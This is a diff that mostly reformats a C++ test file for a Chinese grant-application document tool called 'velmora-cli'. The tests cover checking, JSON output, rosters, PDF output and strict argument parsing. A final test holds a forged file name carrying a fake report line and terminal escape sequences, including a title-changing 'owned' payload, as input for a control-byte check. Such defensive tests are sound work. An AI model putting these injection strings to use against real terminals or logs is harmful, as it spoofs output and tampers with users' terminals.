@@ -9,8 +9,8 @@
 #include <algorithm>
 #include <clocale>
 #include <cstdio>
-#include <cwchar>
 #include <cstdlib>
+#include <cwchar>
 #include <map>
 #include <memory>
 #include <sstream>
@@ -170,9 +170,11 @@ TEST(Cli, DumpPrintsTheRecordInDocumentOrder) {
   EXPECT_EQ(r.out.find("{\n  \"ProjectID\": \"000000000000000000000000\",\n  \"ProjectName\": \"教育公平研究\",\n"), 0u)
       << r.out.substr(0, 200);
   EXPECT_EQ(r.out.find("\"ver\""), std::string::npos);
-  EXPECT_NE(r.out.find("  \"ExpectProduction2\": \"\",\n  \"PASSBY\": \"0\",\n  \"Presider\": \"李明\""), std::string::npos);
+  EXPECT_NE(r.out.find("  \"ExpectProduction2\": \"\",\n  \"PASSBY\": \"0\",\n  \"Presider\": \"李明\""),
+            std::string::npos);
   EXPECT_NE(r.out.find("\"OutlayGrid\": [[\"1\",\"资料费\",\"0\"],"), std::string::npos);
-  EXPECT_NE(r.out.find("\"OutlayGrid3\": [[\"          年\",\"          年\",\"          年\",\"          年\"],[\"\",\"\",\"\",\"\"]]"),
+  EXPECT_NE(r.out.find("\"OutlayGrid3\": [[\"          年\",\"          年\",\"          年\",\"          "
+                       "年\"],[\"\",\"\",\"\",\"\"]]"),
             std::string::npos);
   EXPECT_NE(r.out.find("\"ProjectReasoning\": []"), std::string::npos);
   EXPECT_NE(r.out.find("\"verifylist\": [\"01、关键词1  未填写\","), std::string::npos);
@@ -191,8 +193,9 @@ TEST(Cli, ResaveWritesANewIdentifierAndTheCheck) {
   std::string bytes = readFile(dir.path("out.xdx"));
   EXPECT_EQ(bytes.find("{6F9619FF"), std::string::npos);
   EXPECT_NE(bytes.find("<PASSBY>0</PASSBY>"), std::string::npos);
-  EXPECT_NE(bytes.find(gbk("<verifylist>\"03、主要参加者  资料未填写完整\",\"09、年度预算  资料未填写完整\"</verifylist>")),
-            std::string::npos);
+  EXPECT_NE(
+      bytes.find(gbk("<verifylist>\"03、主要参加者  资料未填写完整\",\"09、年度预算  资料未填写完整\"</verifylist>")),
+      std::string::npos);
   EXPECT_NE(bytes.find(gbk("<MainActor1>张伟,,45,196603,教授,课程与教学论,研究生,,</MainActor1>")), std::string::npos);
 }
 
@@ -215,9 +218,13 @@ TEST(Cli, ResaveRefusesFormalAndIncompleteDocuments) {
 }
 
 TEST(Cli, HelpForTheProgramAndEveryCommand) {
-  for (auto args : std::vector<std::vector<std::string>>{{"--help"}, {"check", "--help"}, {"dump", "--help"},
-                                                         {"resave", "--help"}, {"import", "--help"},
-                                                         {"pdf", "--help"}, {"roster", "--help"}}) {
+  for (auto args : std::vector<std::vector<std::string>>{{"--help"},
+                                                         {"check", "--help"},
+                                                         {"dump", "--help"},
+                                                         {"resave", "--help"},
+                                                         {"import", "--help"},
+                                                         {"pdf", "--help"},
+                                                         {"roster", "--help"}}) {
     SCOPED_TRACE(argsName(args));
     CliRun r = cli(args);
     EXPECT_EQ(r.exit, 0) << args[0];
@@ -234,18 +241,21 @@ TEST(Cli, CheckTakesFoldersAndPrintsJsonLines) {
   writeFile(dir.path("office/notes.txt"), "not a document");
   CliRun r = cli({"check", dir.path("office")});
   EXPECT_EQ(r.exit, 1);
-  EXPECT_EQ(r.out, dir.path("office/late/b.XDX") + ": 03、主要参加者  资料未填写完整\n" + dir.path("office/late/b.XDX") +
-                       ": 09、年度预算  资料未填写完整\n");
+  EXPECT_EQ(r.out, dir.path("office/late/b.XDX") + ": 03、主要参加者  资料未填写完整\n" +
+                       dir.path("office/late/b.XDX") + ": 09、年度预算  资料未填写完整\n");
 
   CliRun j = cli({"check", "--json", dir.path("office"), fixture("wrong-version.xdx")});
   EXPECT_EQ(j.exit, 2);
-  EXPECT_EQ(j.out,
-            "{\"file\":" + std::string("\"") + dir.path("office/a.xdx") +
-                "\",\"status\":\"complete\",\"formal\":false,\"problems\":[],\"messages\":[]}\n"
-                "{\"file\":\"" + dir.path("office/late/b.XDX") +
-                "\",\"status\":\"problems\",\"formal\":false,\"problems\":[\"03、主要参加者  资料未填写完整\",\"09、年度预算  资料未填写完整\"],\"messages\":[]}\n"
-                "{\"file\":\"" + fixture("wrong-version.xdx") +
-                "\",\"status\":\"refused\",\"formal\":false,\"problems\":[],\"messages\":[\"您选择的文档不是用本申报系统生成的\"]}\n");
+  EXPECT_EQ(j.out, "{\"file\":" + std::string("\"") + dir.path("office/a.xdx") +
+                       "\",\"status\":\"complete\",\"formal\":false,\"problems\":[],\"messages\":[]}\n"
+                       "{\"file\":\"" +
+                       dir.path("office/late/b.XDX") +
+                       "\",\"status\":\"problems\",\"formal\":false,\"problems\":[\"03、主要参加者  "
+                       "资料未填写完整\",\"09、年度预算  资料未填写完整\"],\"messages\":[]}\n"
+                       "{\"file\":\"" +
+                       fixture("wrong-version.xdx") +
+                       "\",\"status\":\"refused\",\"formal\":false,\"problems\":[],\"messages\":["
+                       "\"您选择的文档不是用本申报系统生成的\"]}\n");
 
   CliRun formal = cli({"check", "--json", fixture("formal.xdx")});
   EXPECT_EQ(formal.exit, 0);
@@ -341,18 +351,24 @@ TEST(Cli, ArgumentsAreParsedStrictly) {
   struct Case {
     std::vector<std::string> args;
     int exit;
-    std::string errStart;  // empty: nothing on standard error
+    std::string errStart;    // empty: nothing on standard error
     std::string usage = "";  // the usage shown after a usage error
   } cases[] = {
       {{"check", "--jsn", sample}, 2, "velmora-cli：未知的选项或多余的参数：--jsn\n", "用法: velmora-cli check [选项]"},
       {{"check", sample, "--jsn"}, 2, "velmora-cli：未知的选项或多余的参数：--jsn\n", "用法: velmora-cli check [选项]"},
       {{"check", "-x"}, 2, "velmora-cli：未知的选项或多余的参数：-x\n", "用法: velmora-cli check [选项]"},
-      {{"--frobnicate", "check", sample}, 2, "velmora-cli：未知的选项或多余的参数：--frobnicate\n", "用法: velmora-cli check [选项]"},
+      {{"--frobnicate", "check", sample},
+       2,
+       "velmora-cli：未知的选项或多余的参数：--frobnicate\n",
+       "用法: velmora-cli check [选项]"},
       {{"frobnicate"}, 2, "velmora-cli：未知的选项或多余的参数：frobnicate\n", "用法: velmora-cli [选项] 命令"},
       {{"dump", "--out", sample}, 2, "velmora-cli：未知的选项或多余的参数：--out\n", "用法: velmora-cli dump [选项]"},
       {{}, 2, "velmora-cli：缺少命令：check、dump、import、resave、pdf 或 roster\n", "用法: velmora-cli [选项] 命令"},
       {{"check"}, 2, "velmora-cli：缺少必需的命令或参数", "用法: velmora-cli check [选项]"},
-      {{"dump", sample, sample}, 2, "velmora-cli：参数个数不对（需要 1 个，实际 2 个）", "用法: velmora-cli dump [选项]"},
+      {{"dump", sample, sample},
+       2,
+       "velmora-cli：参数个数不对（需要 1 个，实际 2 个）",
+       "用法: velmora-cli dump [选项]"},
       {{"resave", sample}, 2, "velmora-cli：参数个数不对（需要 2 个，实际 1 个）", "用法: velmora-cli resave [选项]"},
       {{"pdf", sample}, 2, "velmora-cli：参数个数不对（需要 2 个，实际 1 个）", "用法: velmora-cli pdf [选项]"},
       {{"roster", sample}, 2, "velmora-cli：缺少必需的命令或参数", "用法: velmora-cli roster [选项]"},
@@ -402,11 +418,10 @@ TEST(Cli, FoldersWithoutDocumentsAreNoSilentSuccess) {
   std::filesystem::create_directories(dir.path("notes/sub"));
   writeFile(dir.path("notes/sub/a.txt"), "not a document");
   const std::string empty = dir.path("empty"), notes = dir.path("notes");
-  for (const auto& args : std::vector<std::vector<std::string>>{
-           {"check", empty},
-           {"check", "--json", notes},
-           {"roster", empty, "--out", dir.path("r.csv")},
-           {"pdf", "--out-dir", dir.path("pdf"), notes}}) {
+  for (const auto& args : std::vector<std::vector<std::string>>{{"check", empty},
+                                                                {"check", "--json", notes},
+                                                                {"roster", empty, "--out", dir.path("r.csv")},
+                                                                {"pdf", "--out-dir", dir.path("pdf"), notes}}) {
     SCOPED_TRACE(argsName(args, dir.dir().string()));
     CliRun r = cli(args);
     EXPECT_EQ(r.exit, 2) << args[0];
@@ -457,7 +472,9 @@ CliRun cliOnTerminal(const std::vector<std::string>& args, unsigned short column
 
 TEST(Cli, ATerminalGetsASummaryLine) {
   TempDir dir;
-  layOut(dir, {{"sample.xdx", "in/a.xdx"}, {"formal.xdx", "in/b.xdx"}, {"fresh-required.xdx", "in/c.xdx"},
+  layOut(dir, {{"sample.xdx", "in/a.xdx"},
+               {"formal.xdx", "in/b.xdx"},
+               {"fresh-required.xdx", "in/c.xdx"},
                {"wrong-version.xdx", "in/d.xdx"}});
   const std::string summary = "共 4 份：完整 2，有问题 1，无法读取 1\r\n";
   struct Case {
@@ -517,8 +534,8 @@ TEST(Cli, HelpAndUsageErrorsReadAsChinese) {
     std::vector<std::string> args;
     unsigned short columns;  // 0: piped
   } cases[] = {
-      {{"--help"}, 0},          {{"check", "--help"}, 0}, {{"dump", "--help"}, 0},  {{"resave", "--help"}, 0},
-      {{"import", "--help"}, 0}, {{"pdf", "--help"}, 0},  {{"roster", "--help"}, 0}, {{"--help"}, 60},
+      {{"--help"}, 0},           {{"check", "--help"}, 0},  {{"dump", "--help"}, 0},   {{"resave", "--help"}, 0},
+      {{"import", "--help"}, 0}, {{"pdf", "--help"}, 0},    {{"roster", "--help"}, 0}, {{"--help"}, 60},
       {{"pdf", "--help"}, 100},  {{"check", "--help"}, 50},
   };
   for (const Case& c : cases) {
@@ -595,7 +612,8 @@ TEST(Cli, ImportRefusesInvalidJsonWithItsPosition) {
     std::string line;  // the message's start after the path
   } cases[] = {
       {R"({"PASSBY": 1-2})", "JSON 格式错误（第 1 行第 14 列）："},
-      {"{\"ProjectName\": \"课题\",\n \"ProjectName\": \"又一个\"}", "JSON 格式错误（第 2 行第 2 列）：键“ProjectName”重复\n"},
+      {"{\"ProjectName\": \"课题\",\n \"ProjectName\": \"又一个\"}",
+       "JSON 格式错误（第 2 行第 2 列）：键“ProjectName”重复\n"},
       {"[]", "JSON 格式错误（第 1 行第 1 列）：应为一个 JSON 对象\n"},
       // The parser stopped at a NUL as at the end and took what followed.
       {std::string(R"({"ProjectName":"课题","Presider":"王","ContactMail":"w@x.cn"})") + '\0' + " ]]]",
@@ -669,8 +687,8 @@ void eachElement(xmlNode* n, const F& f) {
 
 SheetContent readWorkbook(const std::string& path) {
   auto parse = [](const std::string& xml) {
-    return std::unique_ptr<xmlDoc, void (*)(xmlDoc*)>(xmlReadMemory(xml.data(), static_cast<int>(xml.size()), nullptr, nullptr, 0),
-                                                      xmlFreeDoc);
+    return std::unique_ptr<xmlDoc, void (*)(xmlDoc*)>(
+        xmlReadMemory(xml.data(), static_cast<int>(xml.size()), nullptr, nullptr, 0), xmlFreeDoc);
   };
   auto strings = parse(unzipped(path, "xl/sharedStrings.xml"));
   auto sheet = parse(unzipped(path, "xl/worksheets/sheet1.xml"));
@@ -682,7 +700,8 @@ SheetContent readWorkbook(const std::string& path) {
   });
   eachElement(xmlDocGetRootElement(sheet.get()), [&](xmlNode* n) {
     const std::string_view name = reinterpret_cast<const char*>(n->name);
-    if (name == "pane") content.frozen = attribute(n, "ySplit") + " " + attribute(n, "topLeftCell") + " " + attribute(n, "state");
+    if (name == "pane")
+      content.frozen = attribute(n, "ySplit") + " " + attribute(n, "topLeftCell") + " " + attribute(n, "state");
     if (name == "autoFilter") content.filter = attribute(n, "ref");
     if (name != "c") return;
     SheetCell cell{attribute(n, "t"), textOf(n)};
@@ -720,18 +739,49 @@ TEST(Cli, RosterListsEveryDocumentAsWorkbookAndCsv) {
   auto s = [](std::string v) { return SheetCell{"s", std::move(v)}; };
   auto n = [](std::string v) { return SheetCell{"n", std::move(v)}; };
   const std::vector<std::pair<std::string, SheetCell>> expected = {
-      {"A1", s("file")}, {"B1", s("status")}, {"C1", s("problems")}, {"D1", s("formal")}, {"E1", s("SN")},
-      {"F1", s("ProjectName")}, {"N1", s("ApplyOutlay")}, {"R1", s("ContactMobile")}, {"S1", s("messages")},
+      {"A1", s("file")},
+      {"B1", s("status")},
+      {"C1", s("problems")},
+      {"D1", s("formal")},
+      {"E1", s("SN")},
+      {"F1", s("ProjectName")},
+      {"N1", s("ApplyOutlay")},
+      {"R1", s("ContactMobile")},
+      {"S1", s("messages")},
       // Rows in name order: a, b, then the subfolder's c and d.
-      {"A2", s(a)}, {"B2", s("complete")}, {"C2", n("0")}, {"D2", {"b", "0"}}, {"E2", s("BJA110012")},
-      {"F2", s("区域推进中小学学习共同体建设的实践研究")}, {"G2", s("王晓燕")}, {"H2", s("北京师范大学教育学部")},
-      {"I2", s("A.北京市")}, {"J2", s("A.教育部直属高等院校")}, {"K2", s("B.国家一般课题")}, {"L2", s("H.基础教育")},
-      {"M2", s("B.应用研究")}, {"N2", n("12")}, {"O2", n("120000")}, {"P2", s("201312")},
-      {"Q2", s("wangxy@example.cn")}, {"R2", s("13800000000")},
-      {"A3", s(b)}, {"D3", {"b", "1"}}, {"E3", s("BJA110099")},
-      {"A4", s(c)}, {"B4", s("refused")}, {"S4", s("您选择的文档不是用本申报系统生成的")},
-      {"A5", s(d)}, {"B5", s("problems")}, {"C5", n(problemsOfD)}, {"D5", {"b", "0"}}, {"E5", s("007")},
-      {"F5", s("“双减”, 课后\"服务\"")}, {"N5", n("12.5")}, {"O5", s("约十万")}, {"P5", s("201406")},
+      {"A2", s(a)},
+      {"B2", s("complete")},
+      {"C2", n("0")},
+      {"D2", {"b", "0"}},
+      {"E2", s("BJA110012")},
+      {"F2", s("区域推进中小学学习共同体建设的实践研究")},
+      {"G2", s("王晓燕")},
+      {"H2", s("北京师范大学教育学部")},
+      {"I2", s("A.北京市")},
+      {"J2", s("A.教育部直属高等院校")},
+      {"K2", s("B.国家一般课题")},
+      {"L2", s("H.基础教育")},
+      {"M2", s("B.应用研究")},
+      {"N2", n("12")},
+      {"O2", n("120000")},
+      {"P2", s("201312")},
+      {"Q2", s("wangxy@example.cn")},
+      {"R2", s("13800000000")},
+      {"A3", s(b)},
+      {"D3", {"b", "1"}},
+      {"E3", s("BJA110099")},
+      {"A4", s(c)},
+      {"B4", s("refused")},
+      {"S4", s("您选择的文档不是用本申报系统生成的")},
+      {"A5", s(d)},
+      {"B5", s("problems")},
+      {"C5", n(problemsOfD)},
+      {"D5", {"b", "0"}},
+      {"E5", s("007")},
+      {"F5", s("“双减”, 课后\"服务\"")},
+      {"N5", n("12.5")},
+      {"O5", s("约十万")},
+      {"P5", s("201406")},
       {"R5", s("01062345678")},
   };
   for (const auto& [ref, cell] : expected) {
@@ -748,14 +798,19 @@ TEST(Cli, RosterListsEveryDocumentAsWorkbookAndCsv) {
 
   CliRun csv = cli({"roster", a, c, d, "--out", dir.path("r.csv")});
   EXPECT_EQ(csv.exit, 2);
-  const std::string fields = ",SN,ProjectName,Presider,Department,BelongCity,BelongSystem,ProjectClass,SubjectClass,"
-                             "ResearchClass,ApplyOutlay,OutlayAccounts,ExpectCompleteDate,ContactMail,ContactMobile,";
-  EXPECT_EQ(readFile(dir.path("r.csv")),
-            "\xEF\xBB\xBF" "file,status,problems,formal" + fields + "messages\r\n" +
-            a + ",complete,0,FALSE,BJA110012,区域推进中小学学习共同体建设的实践研究,王晓燕,北京师范大学教育学部,A.北京市,"
-                "A.教育部直属高等院校,B.国家一般课题,H.基础教育,B.应用研究,12,120000,201312,wangxy@example.cn,13800000000,\r\n" +
-            c + ",refused,,,,,,,,,,,,,,,,,您选择的文档不是用本申报系统生成的\r\n" +
-            d + ",problems," + problemsOfD + ",FALSE,007,\"“双减”, 课后\"\"服务\"\"\",,,,,,,,12.5,约十万,201406,,01062345678,\r\n");
+  const std::string fields =
+      ",SN,ProjectName,Presider,Department,BelongCity,BelongSystem,ProjectClass,SubjectClass,"
+      "ResearchClass,ApplyOutlay,OutlayAccounts,ExpectCompleteDate,ContactMail,ContactMobile,";
+  EXPECT_EQ(
+      readFile(dir.path("r.csv")),
+      "\xEF\xBB\xBF"
+      "file,status,problems,formal" +
+          fields + "messages\r\n" + a +
+          ",complete,0,FALSE,BJA110012,区域推进中小学学习共同体建设的实践研究,王晓燕,北京师范大学教育学部,A.北京市,"
+          "A.教育部直属高等院校,B.国家一般课题,H.基础教育,B.应用研究,12,120000,201312,wangxy@example.cn,13800000000,"
+          "\r\n" +
+          c + ",refused,,,,,,,,,,,,,,,,,您选择的文档不是用本申报系统生成的\r\n" + d + ",problems," + problemsOfD +
+          ",FALSE,007,\"“双减”, 课后\"\"服务\"\"\",,,,,,,,12.5,约十万,201406,,01062345678,\r\n");
 
   // Only .xlsx and .csv; a table that cannot be written leaves nothing behind.
   CliRun other = cli({"roster", a, "--out", dir.path("r.ods")});
@@ -778,8 +833,11 @@ TEST(Cli, PdfOutDirRefusesDocumentsThatWouldWriteTheSameFile) {
   GTEST_SKIP() << "built without the printed form";
 #endif
   TempDir dir;
-  layOut(dir, {{"sample.xdx", "a/x.xdx"}, {"formal.xdx", "b/x.xdx"}, {"fresh-required.xdx", "b/y.xdx"},
-               {"sample.xdx", "c/x.XDX"}, {"formal.xdx", "d/x.xdx"}});
+  layOut(dir, {{"sample.xdx", "a/x.xdx"},
+               {"formal.xdx", "b/x.xdx"},
+               {"fresh-required.xdx", "b/y.xdx"},
+               {"sample.xdx", "c/x.XDX"},
+               {"formal.xdx", "d/x.xdx"}});
   const std::string a = dir.path("a"), b = dir.path("b"), ax = dir.path("a/x.xdx"), bx = dir.path("b/x.xdx"),
                     by = dir.path("b/y.xdx"), cx = dir.path("c/x.XDX"), dx = dir.path("d/x.xdx");
   const std::string out = dir.path("out");
@@ -830,12 +888,13 @@ CliRun cliWhereModesApply(const TempDir& dir, const std::vector<std::string>& ar
   const std::string bin = dir.path("bin");
   std::filesystem::create_directories(bin);
   ::chmod(bin.c_str(), 0755);
-  for (const std::filesystem::path& program : {std::filesystem::path(VELMORA_CLI),
-                                              std::filesystem::path(VELMORA_CLI).parent_path() / "velmora-print"})
+  for (const std::filesystem::path& program :
+       {std::filesystem::path(VELMORA_CLI), std::filesystem::path(VELMORA_CLI).parent_path() / "velmora-print"})
     if (std::filesystem::exists(program))
       std::filesystem::copy_file(program, bin + "/" + program.filename().string(),
                                  std::filesystem::copy_options::overwrite_existing);
-  return cliWith({env, "", "", "setpriv --reuid=65534 --regid=65534 --clear-groups " + quote(bin + "/velmora-cli")}, args);
+  return cliWith({env, "", "", "setpriv --reuid=65534 --regid=65534 --clear-groups " + quote(bin + "/velmora-cli")},
+                 args);
 }
 
 }  // namespace
@@ -846,8 +905,10 @@ TEST(Cli, BatchesReportEveryUnreadableFileAndFolder) {
   // in/ holds a complete document, a folder that cannot be read at all, a
   // folder that can be listed but not entered, and a document that cannot
   // be read.
-  layOut(dir, {{"sample.xdx", "in/a.xdx"}, {"fresh-required.xdx", "in/locked/b.xdx"},
-               {"fresh-required.xdx", "in/listed/c.xdx"}, {"sample.xdx", "in/d.xdx"}});
+  layOut(dir, {{"sample.xdx", "in/a.xdx"},
+               {"fresh-required.xdx", "in/locked/b.xdx"},
+               {"fresh-required.xdx", "in/listed/c.xdx"},
+               {"sample.xdx", "in/d.xdx"}});
   std::filesystem::create_directories(dir.path("in/listed/deeper"));
   // A link to a document in the folder that cannot be read.
   std::filesystem::create_symlink(dir.path("in/locked/b.xdx"), dir.path("in/e.xdx"));
@@ -859,12 +920,12 @@ TEST(Cli, BatchesReportEveryUnreadableFileAndFolder) {
   const std::string in = dir.path("in"), locked = dir.path("in/locked");
   const std::string denied = "Permission denied";
   // One line per folder, in name order, before the documents' own lines.
-  const std::string folderLines = dir.path("in/listed") + "：无法读取文件夹：" + denied + "\n" + locked +
-                                  "：无法读取文件夹：" + denied + "\n";
+  const std::string folderLines =
+      dir.path("in/listed") + "：无法读取文件夹：" + denied + "\n" + locked + "：无法读取文件夹：" + denied + "\n";
   // Documents found are opened and report their own errors as always.
-  const std::string unreadableDocuments =
-      dir.path("in/d.xdx") + "：无法打开文件“" + dir.path("in/d.xdx") + "”：" + denied + "\n" + dir.path("in/e.xdx") +
-      "：无法打开文件“" + dir.path("in/e.xdx") + "”：" + denied + "\n";
+  const std::string unreadableDocuments = dir.path("in/d.xdx") + "：无法打开文件“" + dir.path("in/d.xdx") + "”：" +
+                                          denied + "\n" + dir.path("in/e.xdx") + "：无法打开文件“" +
+                                          dir.path("in/e.xdx") + "”：" + denied + "\n";
   struct Case {
     std::vector<std::string> args;
     std::string err;
@@ -902,14 +963,20 @@ TEST(Cli, OutputsNeverReplaceAnInputOrADocument) {
   // Documents, a document under another name, links to documents, and JSON
   // to import; laid out afresh for each case.
   auto layOutAfresh = [&] {
-    for (const auto& [name, bytes] : std::vector<std::pair<std::string, std::string>>{
-             {"doc.xdx", sample}, {"other.xdx", formal}, {"in/x.xdx", sample}, {"named.pdf", sample},
-             {"named.csv", formal}, {"r.json", json}}) {
+    for (const auto& [name, bytes] : std::vector<std::pair<std::string, std::string>>{{"doc.xdx", sample},
+                                                                                      {"other.xdx", formal},
+                                                                                      {"in/x.xdx", sample},
+                                                                                      {"named.pdf", sample},
+                                                                                      {"named.csv", formal},
+                                                                                      {"r.json", json}}) {
       std::filesystem::create_directories(std::filesystem::path(dir.path(name)).parent_path());
       writeFile(dir.path(name), bytes);
     }
-    for (const auto& [target, name] : std::vector<std::pair<std::string, std::string>>{
-             {doc, "link.pdf"}, {doc, "link.csv"}, {dir.path("in/x.xdx"), "in/x.pdf"}, {dir.path("r.json"), "r-link.xdx"}}) {
+    for (const auto& [target, name] :
+         std::vector<std::pair<std::string, std::string>>{{doc, "link.pdf"},
+                                                          {doc, "link.csv"},
+                                                          {dir.path("in/x.xdx"), "in/x.pdf"},
+                                                          {dir.path("r.json"), "r-link.xdx"}}) {
       std::filesystem::remove(dir.path(name));
       std::filesystem::create_symlink(target, dir.path(name));
     }
@@ -918,26 +985,37 @@ TEST(Cli, OutputsNeverReplaceAnInputOrADocument) {
   const std::string isInput = "：就是要读的文件“", isDocument = "：是申报文档，不能覆盖\n";
   struct Case {
     std::vector<std::string> args;
-    std::string err;                          // the message line
-    std::string kept;                         // the file that must stay as it was
-    std::string content;                      // its content
-    bool pdf = false;                         // needs the printed form
+    std::string err;      // the message line
+    std::string kept;     // the file that must stay as it was
+    std::string content;  // its content
+    bool pdf = false;     // needs the printed form
   } cases[] = {
       {{"pdf", doc, doc}, doc + isInput + doc + "”，不能覆盖\n", doc, sample, true},
       {{"pdf", doc, dir.path("link.pdf")}, dir.path("link.pdf") + isInput + doc + "”，不能覆盖\n", doc, sample, true},
       {{"pdf", doc, other}, other + isDocument, other, formal, true},
       {{"pdf", doc, dir.path("named.pdf")}, dir.path("named.pdf") + isDocument, dir.path("named.pdf"), sample, true},
       // In a batch only that document is refused; the others are printed.
-      {{"pdf", "--out-dir", dir.path("in"), dir.path("in/x.xdx")}, dir.path("in/x.pdf") + isInput +
-           dir.path("in/x.xdx") + "”，不能覆盖\n", dir.path("in/x.xdx"), sample, true},
-      {{"roster", doc, "--out", dir.path("link.csv")}, dir.path("link.csv") + isInput + doc + "”，不能覆盖\n", doc,
+      {{"pdf", "--out-dir", dir.path("in"), dir.path("in/x.xdx")},
+       dir.path("in/x.pdf") + isInput + dir.path("in/x.xdx") + "”，不能覆盖\n",
+       dir.path("in/x.xdx"),
+       sample,
+       true},
+      {{"roster", doc, "--out", dir.path("link.csv")},
+       dir.path("link.csv") + isInput + doc + "”，不能覆盖\n",
+       doc,
        sample},
-      {{"roster", doc, "--out", dir.path("named.csv")}, dir.path("named.csv") + isDocument, dir.path("named.csv"),
+      {{"roster", doc, "--out", dir.path("named.csv")},
+       dir.path("named.csv") + isDocument,
+       dir.path("named.csv"),
        formal},
-      {{"import", dir.path("r.json"), dir.path("r.json")}, dir.path("r.json") + isInput + dir.path("r.json") +
-           "”，不能覆盖\n", dir.path("r.json"), json},
-      {{"import", dir.path("r.json"), dir.path("r-link.xdx")}, dir.path("r-link.xdx") + isInput + dir.path("r.json") +
-           "”，不能覆盖\n", dir.path("r.json"), json},
+      {{"import", dir.path("r.json"), dir.path("r.json")},
+       dir.path("r.json") + isInput + dir.path("r.json") + "”，不能覆盖\n",
+       dir.path("r.json"),
+       json},
+      {{"import", dir.path("r.json"), dir.path("r-link.xdx")},
+       dir.path("r-link.xdx") + isInput + dir.path("r.json") + "”，不能覆盖\n",
+       dir.path("r.json"),
+       json},
   };
   for (const auto& c : cases) {
     SCOPED_TRACE(argsName(c.args, dir.dir().string()));
@@ -953,8 +1031,9 @@ TEST(Cli, OutputsNeverReplaceAnInputOrADocument) {
   // Standard input opened from the very file named as the output.
   layOutAfresh();
   const std::string err = dir.path("stdin.err");
-  const int status = std::system(("cd " + quote(dir.dir().string()) + " && " + quote(VELMORA_CLI) +
-                                  " import - r.json <r.json 2>" + quote(err)).c_str());
+  const int status = std::system(
+      ("cd " + quote(dir.dir().string()) + " && " + quote(VELMORA_CLI) + " import - r.json <r.json 2>" + quote(err))
+          .c_str());
   EXPECT_EQ(WIFEXITED(status) ? WEXITSTATUS(status) : -1, 2);
   EXPECT_EQ(readFile(err), "r.json：就是要读的文件“/dev/stdin”，不能覆盖\n");
   EXPECT_EQ(readFile(dir.path("r.json")), json);
@@ -1013,16 +1092,17 @@ TEST(Cli, NothingOfAFileThatIsNoXmlDocumentIsQuoted) {
     writeFile(dir.path(c.name), c.bytes);
     const std::string link = dir.path(c.name + ".xdx");
     std::filesystem::create_symlink(dir.path(c.name), link);
-    for (const std::vector<std::string>& args : std::vector<std::vector<std::string>>{
-             {"check", link}, {"check", "--json", link}, {"dump", link}}) {
+    for (const std::vector<std::string>& args :
+         std::vector<std::vector<std::string>>{{"check", link}, {"check", "--json", link}, {"dump", link}}) {
       SCOPED_TRACE(argsName(args, dir.dir().string()));
       CliRun r = cli(args);
       EXPECT_EQ(r.exit, 2) << c.name;
       EXPECT_EQ((r.out + r.err).find(secret), std::string::npos) << c.name << ": " << r.out << r.err;
-      const std::string expected = args[1] == "--json"
-                                       ? "{\"file\":\"" + link + "\",\"status\":\"refused\",\"formal\":false,"
-                                             "\"problems\":[],\"messages\":[\"" + c.message + "\"]}\n"
-                                       : "";
+      const std::string expected = args[1] == "--json" ? "{\"file\":\"" + link +
+                                                             "\",\"status\":\"refused\",\"formal\":false,"
+                                                             "\"problems\":[],\"messages\":[\"" +
+                                                             c.message + "\"]}\n"
+                                                       : "";
       EXPECT_EQ(r.out, expected) << c.name;
       EXPECT_EQ(r.err, args[1] == "--json" ? "" : link + "：" + c.message + "\n") << c.name;
     }
@@ -1039,7 +1119,8 @@ TEST(Cli, ImportReadsNoMoreThanItsLimitFromAnySource) {
   // Valid JSON, padded with blanks to the size wanted; its name too long, so
   // that one within the limit is refused for that, not for its size.
   auto padded = [&](std::size_t size) {
-    const std::string object = R"({"ProjectName":")" + std::string(300, 'x') + R"(","Presider":"王","ContactMail":"w@x.cn"})";
+    const std::string object =
+        R"({"ProjectName":")" + std::string(300, 'x') + R"(","Presider":"王","ContactMail":"w@x.cn"})";
     return object + std::string(size - object.size(), ' ');
   };
   writeFile(dir.path("limit.json"), padded(limit));
@@ -1113,7 +1194,8 @@ TEST(Cli, FileNamesThatAreNoUtf8) {
   TempDir dir;
   const std::string zhang = "\xD5\xC5\xC8\xFD", li = "\xC0\xEE\xCB\xC4";  // 张三, 李四 in GBK
   const std::string broken = "x\xFF";                                     // neither UTF-8 nor GBK
-  layOut(dir, {{"sample.xdx", "in/" + zhang + ".xdx"}, {"sample.xdx", "in/" + li + ".xdx"},
+  layOut(dir, {{"sample.xdx", "in/" + zhang + ".xdx"},
+               {"sample.xdx", "in/" + li + ".xdx"},
                {"wrong-version.xdx", "in/" + broken + ".xdx"}});
 
   // Every name shown, each differently, in UTF-8.
@@ -1134,8 +1216,10 @@ TEST(Cli, FileNamesThatAreNoUtf8) {
     }
     return h;
   };
-  EXPECT_NE(check.out.find("\"file\":\"" + zhangShown + "\",\"file_bytes\":\"" + hex(dir.path("in/" + zhang + ".xdx")) + "\""),
-            std::string::npos) << check.out;
+  EXPECT_NE(check.out.find("\"file\":\"" + zhangShown + "\",\"file_bytes\":\"" + hex(dir.path("in/" + zhang + ".xdx")) +
+                           "\""),
+            std::string::npos)
+      << check.out;
   EXPECT_NE(check.out.find("\"file\":\"" + liShown + "\""), std::string::npos) << check.out;
   // JSON writes the display's backslash as \\.
   EXPECT_NE(check.out.find("\"file\":\"" + dir.path("in/x\\\\xFF.xdx") + "\""), std::string::npos) << check.out;
@@ -1158,7 +1242,8 @@ TEST(Cli, FileNamesThatAreNoUtf8) {
 
 #ifdef VELMORA_CLI_PDF
   // One PDF each, named by the documents' own bytes.
-  CliRun pdf = cli({"pdf", "--out-dir", dir.path("pdf"), dir.path("in/" + zhang + ".xdx"), dir.path("in/" + li + ".xdx")});
+  CliRun pdf =
+      cli({"pdf", "--out-dir", dir.path("pdf"), dir.path("in/" + zhang + ".xdx"), dir.path("in/" + li + ".xdx")});
   EXPECT_EQ(pdf.exit, 0) << pdf.err;
   EXPECT_TRUE(readFile(dir.path("pdf/" + zhang + ".pdf")).starts_with("%PDF-"));
   EXPECT_TRUE(readFile(dir.path("pdf/" + li + ".pdf")).starts_with("%PDF-"));
@@ -1175,12 +1260,15 @@ TEST(Cli, ControlBytesReachNoTerminal) {
   TempDir dir;
   const std::string forged = "a\nb.xdx: 01、课题名称  未填写\x1b[2J";
   layOut(dir, {{"wrong-version.xdx", forged}});
-  writeFile(dir.path("title.xdx"), "<?xml version=\"1.0\" encoding=\"GBK\"?>\n<XMLPackage>\x1b]0;owned\x07\x1b[2J<ver>\n");
+  writeFile(dir.path("title.xdx"),
+            "<?xml version=\"1.0\" encoding=\"GBK\"?>\n<XMLPackage>\x1b]0;owned\x07\x1b[2J<ver>\n");
   CliRun r = cli({"check", dir.path(forged), dir.path("title.xdx")});
